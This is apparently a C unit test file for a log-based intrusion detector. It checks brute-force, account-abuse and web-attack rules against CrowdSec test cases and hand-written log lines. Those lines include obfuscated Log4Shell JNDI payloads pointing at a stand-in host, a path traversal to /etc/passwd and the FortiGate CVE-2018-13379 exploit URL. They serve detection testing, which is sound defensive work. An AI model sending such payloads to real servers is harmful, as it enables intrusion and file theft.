/*
 * t_detect_builtin.c - the built-in detections against CrowdSec hub test
 * cases (tests/data/logs/crowdsec/<case>: the log and scenario.assert with
 * the sources CrowdSec's own scenario must flag) and against hand-written
 * events for the rules CrowdSec has no case for.
 */
#include <stdlib.h>
#include <string.h>

#include "detection/decoder.h"
#include "detection/detect_builtin.h"
#include "detection/window.h"
#include "tests/tap.h"

#define MAX_HITS 64

struct hits {
	size_t n;
	char rule[MAX_HITS][64];
	char ip[MAX_HITS][64];
	char user[MAX_HITS][64];
	enum alert_severity sev[MAX_HITS];
};

static void
collect(void *arg, const struct alert *a)
{
	struct hits *h = arg;
	if (h->n == MAX_HITS)
		return;
	snprintf(h->rule[h->n], 64, "%s", a->rule->id);
	snprintf(h->ip[h->n], 64, "%s", a->source_ip ? a->source_ip : "");
	snprintf(h->user[h->n], 64, "%s", a->user_name ? a->user_name : "");
	h->sev[h->n] = a->severity;
	h->n++;
}

static bool
has(const struct hits *h, const char *rule, const char *ip)
{
	for (size_t i = 0; i < h->n; i++)
		if (!strcmp(h->rule[i], rule) && (!ip || !strcmp(h->ip[i], ip)))
			return true;
	return false;
}

static char *
slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	fseek(f, 0, SEEK_END);
	long n = ftell(f);
	fseek(f, 0, SEEK_SET);
	char *buf = malloc((size_t)n + 1);
	if (buf && fread(buf, 1, (size_t)n, f) != (size_t)n) {
		free(buf);
		buf = NULL;
	}
	if (buf)
		buf[n] = '\0';
	*len = (size_t)n;
	fclose(f);
	return buf;
}

static void
run_lines(struct detect_builtin *d, struct span text, int year, struct hits *h)
{
	static struct decode_ctx dc;
	struct cursor c;
	struct span line;
	struct event ev;
	decoder_ctx_init(&dc, year, 0);
	cursor_init(&c, text.p, text.len);
	while (cursor_line(&c, &line))
		if (decoder_decode(&dc, line, &ev))
			detect_builtin_event(d, &ev, collect, h);
}

static void
crowdsec_case(const char *dir, const char *name, const char *logname, const char *rule)
{
	char path[512];
	size_t len, alen;
	snprintf(path, sizeof(path), "%s/logs/crowdsec/%s/%s", dir, name, logname);
	char *text = slurp(path, &len);
	snprintf(path, sizeof(path), "%s/logs/crowdsec/%s/scenario.assert", dir, name);
	char *asrt = slurp(path, &alen);
	if (!ok(text && asrt, "%s: read log and scenario.assert", name)) {
		free(text);
		free(asrt);
		return;
	}
	struct detect_builtin *d;
	struct hits h = { 0 };
	if (detect_builtin_new(&d, 1024) != 0)
		return;
	run_lines(d, (struct span){ text, len }, 2021, &h);
	/* every source CrowdSec flags: results[i].Overflow.Sources["IP"] */
	int want = 0, got = 0;
	for (const char *p = strstr(asrt, "Sources[\""); p; p = strstr(p + 1, "Sources[\"")) {
		char ip[64];
		const char *s = p + 9, *e = strchr(s, '"');
		if (!e || e - s >= (long)sizeof(ip))
			break;
		snprintf(ip, sizeof(ip), "%.*s", (int)(e - s), s);
		/* each result names its source on several lines; count distinct */
		bool seen = false;
		for (const char *q = strstr(asrt, "Sources[\""); q && q < p; q = strstr(q + 1, "Sources[\""))
			if (!strncmp(q + 9, ip, strlen(ip)) && q[9 + strlen(ip)] == '"')
				seen = true;
		if (seen)
			continue;
		want++;
		if (has(&h, rule, ip))
			got++;
		else
			printf("#   no %s alert for %s\n", rule, ip);
	}
	ok(want > 0 && got == want, "%s: %s raised for all %d source(s) CrowdSec expects", name, rule, want);
	detect_builtin_free(d);
	free(text);
	free(asrt);
}

static void
lines(const char *text, struct hits *h, size_t max_keys)
{
	struct detect_builtin *d;
	memset(h, 0, sizeof(*h));
	if (detect_builtin_new(&d, max_keys) != 0)
		return;
	run_lines(d, span_from_cstr(text), 2025, h);
	detect_builtin_free(d);
}

static void
handwritten(void)
{
	struct hits h;
	/* the break-in: failures, then success from the same address */
	lines("Mar  1 10:00:01 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:02 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:03 srv sshd[10]: Failed password for admin from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:04 srv sshd[11]: Failed password for admin from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:05 srv sshd[11]: Failed password for taro from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:06 srv sshd[12]: Accepted password for taro from 203.0.113.9 port 2 ssh2\n"
	    "Mar  1 10:00:07 srv sshd[13]: Accepted publickey for hanako from 198.51.100.7 port 2 ssh2\n", &h, 0);
	ok(has(&h, "mamori.bruteforce.ssh", "203.0.113.9"), "SSH brute force at 5 failures");
	ok(has(&h, "mamori.auth.success_after_failures", "203.0.113.9"), "success after failures raised");
	ok(!has(&h, "mamori.auth.success_after_failures", "198.51.100.7"), "a clean login is quiet");
	for (size_t i = 0; i < h.n; i++)
		if (!strcmp(h.rule[i], "mamori.auth.success_after_failures"))
			ok(h.sev[i] == ALERT_CRITICAL && !strcmp(h.user[i], "taro"), "break-in is critical and names the user");

	/* 4 failures in 10 minutes are not yet brute force; failures spread over hours never are */
	lines("Mar  1 10:00:01 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:02 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:03 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:04 srv sshd[11]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:30:05 srv sshd[11]: Failed password for root from 203.0.113.9 port 1 ssh2\n", &h, 0);
	ok(!has(&h, "mamori.bruteforce.ssh", NULL), "4 failures, then one 30 minutes later: no alert");

	/* pam_unix lines under sshd are the same attempts: not counted twice */
	lines("Mar  1 10:00:01 srv sshd[10]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root\n"
	    "Mar  1 10:00:01 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:02 srv sshd[10]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root\n"
	    "Mar  1 10:00:02 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:03 srv sshd[10]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root\n"
	    "Mar  1 10:00:03 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n", &h, 0);
	ok(!has(&h, "mamori.bruteforce.ssh", NULL), "3 attempts with their pam_unix lines: no alert");

	/* Windows: account created, added to Administrators, log cleared, service (Winlogbeat JSON) */
	lines("{\"@timestamp\":\"2025-03-01T10:00:00.000Z\",\"winlog\":{\"event_id\":4720,\"computer_name\":\"PC1\",\"event_data\":{\"TargetUserName\":\"backup$x\",\"SubjectUserName\":\"admin\"}}}\n"
	    "{\"@timestamp\":\"2025-03-01T10:00:01.000Z\",\"winlog\":{\"event_id\":4732,\"computer_name\":\"PC1\",\"event_data\":{\"MemberName\":\"-\",\"MemberSid\":\"S-1-5-21-1-2-3-1001\",\"TargetUserName\":\"Administrators\",\"TargetSid\":\"S-1-5-32-544\",\"SubjectUserName\":\"admin\"}}}\n"
	    "{\"@timestamp\":\"2025-03-01T10:00:02.000Z\",\"winlog\":{\"event_id\":4732,\"computer_name\":\"PC1\",\"event_data\":{\"MemberName\":\"-\",\"MemberSid\":\"S-1-5-21-1-2-3-1001\",\"TargetUserName\":\"Printers\",\"TargetSid\":\"S-1-5-21-1-2-3-1100\"}}}\n"
	    "{\"EventTime\":\"2025-03-01 10:00:03\",\"Hostname\":\"PC1\",\"EventID\":1102,\"SubjectUserName\":\"admin\"}\n"
	    "{\"EventTime\":\"2025-03-01 10:00:04\",\"Hostname\":\"PC1\",\"EventID\":7045,\"ServiceName\":\"PSEXESVC\",\"ImagePath\":\"%SystemRoot%\\\\PSEXESVC.exe\",\"AccountName\":\"LocalSystem\"}\n", &h, 0);
	ok(has(&h, "mamori.iam.user_created", NULL), "4720 raises user created");
	ok(has(&h, "mamori.iam.admin_group_add", NULL), "4732 to Administrators raises admin group");
	int admin = 0;
	for (size_t i = 0; i < h.n; i++)
		admin += !strcmp(h.rule[i], "mamori.iam.admin_group_add");
	is_int(admin, 1, "4732 to an ordinary group is quiet");
	ok(has(&h, "mamori.log.cleared", NULL), "1102 (NXLog JSON) raises log cleared");
	for (size_t i = 0; i < h.n; i++)
		if (!strcmp(h.rule[i], "mamori.windows.service_installed"))
			ok(h.sev[i] == ALERT_HIGH, "PsExec service is high");
	ok(has(&h, "mamori.windows.service_installed", NULL), "7045 raises service installed");

	/* Linux account tools */
	lines("Mar  1 10:00:01 srv useradd[99]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0\n"
	    "Mar  1 10:00:02 srv usermod[98]: add 'eve' to group 'sudo'\n"
	    "Mar  1 10:00:03 srv gpasswd[97]: user eve added by root to group wheel\n", &h, 0);
	ok(has(&h, "mamori.iam.user_created", NULL), "useradd raises user created");
	ok(has(&h, "mamori.iam.admin_group_add", NULL), "usermod -aG sudo raises admin group");

	/* Log4Shell obfuscations and the quiet cases */
	lines("192.0.2.1 - - [10/Dec/2021:14:25:38 +0000] \"GET /?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://a.example/x} HTTP/1.1\" 200 1 \"-\" \"-\"\n"
	    "192.0.2.2 - - [10/Dec/2021:14:25:38 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//a.example/x}\"\n"
	    "192.0.2.3 - - [10/Dec/2021:14:25:38 +0000] \"GET /%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D HTTP/1.1\" 404 1 \"-\" \"-\"\n"
	    "192.0.2.4 - - [10/Dec/2021:14:25:38 +0000] \"GET /index.php?price=${total} HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n"
	    "192.0.2.5 - - [10/Dec/2021:14:25:38 +0000] \"GET /static/../../../../etc/passwd HTTP/1.1\" 400 1 \"-\" \"-\"\n"
	    "192.0.2.6 - - [10/Dec/2021:14:25:38 +0000] \"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\" 200 1 \"-\" \"-\"\n", &h, 0);
	ok(has(&h, "mamori.web.log4shell", "192.0.2.1"), "Log4Shell ${::-j} form");
	ok(has(&h, "mamori.web.log4shell", "192.0.2.2"), "Log4Shell ${env:X:-j} form in User-Agent");
	ok(has(&h, "mamori.web.log4shell", "192.0.2.3"), "Log4Shell percent-encoded in URL");
	ok(!has(&h, "mamori.web.log4shell", "192.0.2.4"), "ordinary ${...} in a URL is quiet");
	ok(has(&h, "mamori.web.path_traversal", "192.0.2.5"), "path traversal");
	ok(has(&h, "mamori.web.vpn_exploit", "192.0.2.6"), "FortiGate CVE-2018-13379 URL");
	ok(!has(&h, "mamori.web.path_traversal", "192.0.2.6"), "VPN exploit is not also reported as traversal");
}

/* A flood of distinct addresses: memory stays at the cap, evictions counted. */
static void
flood(void)
{
	struct detect_builtin *d;
	struct detect_stats st0, st;
	if (detect_builtin_new(&d, 4096) != 0)
		return;
	detect_builtin_stats(d, &st0);
	static struct decode_ctx dc;
	decoder_ctx_init(&dc, 2025, 0);
	char line[160];
	struct event ev;
	struct hits h = { 0 };
	for (unsigned i = 0; i < 200000; i++) {
		int n = snprintf(line, sizeof(line),
		    "Mar  1 10:%02u:%02u srv sshd[1]: Failed password for root from 10.%u.%u.%u port 1 ssh2",
		    (i / 60) % 60, i % 60, (i >> 16) & 255, (i >> 8) & 255, i & 255);
		if (decoder_decode(&dc, (struct span){ line, (size_t)n }, &ev))
			detect_builtin_event(d, &ev, collect, &h);
	}
	detect_builtin_stats(d, &st);
	ok(st.table_bytes == st0.table_bytes, "tables do not grow under a flood (%zu bytes)", st.table_bytes);
	ok(st.evictions > 100000, "evictions are counted (%llu)", (unsigned long long)st.evictions);
	is_int(h.n, 0, "one failure per address: no alerts");
	detect_builtin_free(d);

	struct window w;
	window_init(&w, 16);
	for (uint64_t k = 1; k <= 100; k++)
		window_hit(window_get(&w, k), (int64_t)k, 1000);
	ok(w.used <= 16 && w.evictions == 100 - w.used, "window keeps at most its cap (%zu used, %llu evicted)",
	    w.used, (unsigned long long)w.evictions);
	struct window_entry *e = window_get(&w, 12345);
	size_t n = 0;
	for (int i = 0; i < 40; i++)
		n = window_hit(e, 1000 + i * 100, 1000);
	is_int(n, 10, "sliding count: 10 hits in the last second of 40 spread over 4 s");
	window_release(&w);
}

struct saved {
	size_t n;
	struct detect_state s[16];
};

static int
save_one(void *arg, const struct detect_state *s)
{
	struct saved *sv = arg;
	if (sv->n < 16)
		sv->s[sv->n++] = *s;
	return 0;
}

/* The correlation state a live watch keeps across restarts. */
static void
restart(void)
{
	struct detect_builtin *a, *b, *c;
	struct hits h;
	struct saved sv = { 0 };
	memset(&h, 0, sizeof(h));
	if (detect_builtin_new(&a, 0) || detect_builtin_new(&b, 0) || detect_builtin_new(&c, 0))
		return;
	/* 3 failures and a spraying start (3 users) from .9; an old address from hours before */
	run_lines(a, span_from_cstr(
	    "Mar  1 07:00:01 srv sshd[9]: Failed password for old from 192.0.2.1 port 1 ssh2\n"
	    "Mar  1 10:00:01 srv sshd[10]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:02 srv sshd[10]: Failed password for admin from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:03 srv sshd[10]: Failed password for taro from 203.0.113.9 port 1 ssh2\n"), 2025, &h);
	is_int(h.n, 0, "3 failures: no alert before the restart");
	is_int(detect_builtin_state_each(a, 16, save_one, &sv), 0, "open windows handed out");
	is_int(sv.n, 2, "two open windows (brute force, address); the address idle for 3 hours is closed");
	for (size_t i = 0; i < sv.n; i++)
		ok(sv.s[i].len <= WINDOW_ENCODED_MAX && sv.s[i].active_ms == detect_builtin_clock(a),
		    "window %zu encoded in %zu bytes", i, sv.s[i].len);
	struct saved one = { 0 };
	detect_builtin_state_each(a, 1, save_one, &one);
	is_int(one.n, 1, "the cap is kept (newest first)");

	size_t loaded = 0;
	for (size_t i = 0; i < sv.n; i++)
		loaded += detect_builtin_state_load(b, detect_builtin_clock(a), &sv.s[i]);
	is_int(loaded, 2, "both restored");
	ok(detect_builtin_clock(b) == detect_builtin_clock(a), "the clock is restored");
	run_lines(b, span_from_cstr(
	    "Mar  1 10:00:04 srv sshd[11]: Failed password for hanako from 203.0.113.9 port 1 ssh2\n"
	    "Mar  1 10:00:05 srv sshd[11]: Failed password for jiro from 203.0.113.9 port 1 ssh2\n"), 2025, &h);
	ok(has(&h, "mamori.bruteforce.ssh", "203.0.113.9"), "after the restart the 5th failure is brute force");
	ok(has(&h, "mamori.auth.spray", "203.0.113.9"), "and the 5th user makes spraying");
	is_int(h.n, 2, "two alerts, once each");

	/* closed at the saved clock, malformed, or of an unknown table: skipped */
	struct detect_state bad = sv.s[0];
	ok(!detect_builtin_state_load(c, detect_builtin_clock(a) + DETECT_STATE_SPAN_MS, &bad),
	    "a window closed at the saved clock is dropped");
	bad.len--;
	ok(!detect_builtin_state_load(c, detect_builtin_clock(a), &bad), "a short window is refused");
	bad = sv.s[0];
	bad.data[0] = 9;
	ok(!detect_builtin_state_load(c, detect_builtin_clock(a), &bad), "an unknown encoding is refused");
	bad = sv.s[0];
	bad.table = 7;
	ok(!detect_builtin_state_load(c, detect_builtin_clock(a), &bad), "an unknown table is refused");
	detect_builtin_free(a);
	detect_builtin_free(b);
	detect_builtin_free(c);
}

int
main(void)
{
	const char *dir = getenv("MAMORI_TEST_DATA");
	if (!dir)
		dir = "tests/data";
	crowdsec_case(dir, "ssh-bf", "ssh-bf.log", "mamori.bruteforce.ssh");
	crowdsec_case(dir, "ssh-bf", "ssh-bf.log", "mamori.auth.spray");
	crowdsec_case(dir, "fortinet-vpn-bf", "fortinet-vpn-bf.log", "mamori.bruteforce.vpn");
	crowdsec_case(dir, "smb-bf", "smb-bf.log", "mamori.bruteforce.smb");
	crowdsec_case(dir, "windows-bf", "windows-bf.log", "mamori.bruteforce.windows");
	crowdsec_case(dir, "postfix-sasl-bf", "postfix-sasl-bf.log", "mamori.bruteforce.mail");
	crowdsec_case(dir, "openvpn-bf", "openvpn.log", "mamori.bruteforce.vpn");
	crowdsec_case(dir, "pulse-secure-sslvpn-cve-2019-11510", "pulse-secure-sslvpn-cve-2019-11510.log",
	    "mamori.web.vpn_exploit");
	crowdsec_case(dir, "nginx-http-sqli-probing", "nginx-http-sqli-probing.log", "mamori.web.sqli");
	crowdsec_case(dir, "apache_log4j2_cve-2021-44228", "apache_log4j2_cve-2021-44228.log",
	    "mamori.web.log4shell");
	crowdsec_case(dir, "http-bf-wordpress-bf", "http-bf-wordpress-bf.log", "mamori.bruteforce.web");
	crowdsec_case(dir, "palo-alto-threat", "palo-alto-threat.log", "mamori.firewall.threat");
	handwritten();
	flood();
	restart();
	return done_testing();
}
